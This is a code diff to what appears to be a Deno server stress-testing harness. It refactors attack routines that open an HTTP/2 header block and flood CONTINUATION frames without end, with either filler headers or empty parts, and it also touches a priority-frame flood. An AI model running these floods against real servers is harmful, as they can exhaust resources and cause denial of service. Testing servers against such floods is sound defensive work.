@@ -12,7 +12,7 @@ import {
 } from "../../support/http2_frames.ts";
 import { concat } from "../../support/wire_frames.ts";
 import type { Arena, Flood, Limit } from "../attack.ts";
-import { persist } from "../persist.ts";
+import { hold, persist } from "../persist.ts";
 
 /** Deno's HTTP server speaks HTTP/2 to whoever begins with it, and takes as many frames as come. */
 const WITHOUT_TLS: Limit = {
@@ -59,6 +59,19 @@ async function streams(
       concat(...Array.from({ length: 100 }, (_, i) => make(stream + 2 * i))),
     );
   }
+}
+
+/** Begins a header block, and goes on with `part` again and again. */
+async function continueWithoutEnd(
+  stage: Arena,
+  conn: Deno.Conn,
+  part: Uint8Array,
+): Promise<void> {
+  await writeAll(
+    conn,
+    frame(FRAME.headers, block(stage, stage.innocent), { stream: 1 }),
+  );
+  await flood(conn, frame(FRAME.continuation, part, { stream: 1 }));
 }
 
 function attack(
@@ -113,31 +126,16 @@ export const http2: readonly Flood[] = [
     "h2-continuation",
     "send a header block without end",
     (stage) =>
-      speak(stage, async (conn) => {
-        await writeAll(
-          conn,
-          frame(FRAME.headers, block(stage, stage.innocent), { stream: 1 }),
-        );
-        await flood(
-          conn,
-          frame(FRAME.continuation, headerBlock([["x", "y"]]), { stream: 1 }),
-        );
-      }),
+      speak(
+        stage,
+        (conn) => continueWithoutEnd(stage, conn, headerBlock([["x", "y"]])),
+      ),
   ),
   attack(
     "h2-empty-continuation",
     "send empty parts of a header block without end",
     (stage) =>
-      speak(stage, async (conn) => {
-        await writeAll(
-          conn,
-          frame(FRAME.headers, block(stage, stage.innocent), { stream: 1 }),
-        );
-        await flood(
-          conn,
-          frame(FRAME.continuation, new Uint8Array(), { stream: 1 }),
-        );
-      }),
+      speak(stage, (conn) => continueWithoutEnd(stage, conn, new Uint8Array())),
   ),
   attack(
     "h2-priority",
@@ -243,10 +241,7 @@ export const http2: readonly Flood[] = [
               })),
           ),
         );
-        await new Promise<void>((resolve) =>
-          stage.signal.addEventListener("abort", () =>
-            resolve())
-        );
+        await hold(stage);
       }, true),
   ),
 ];
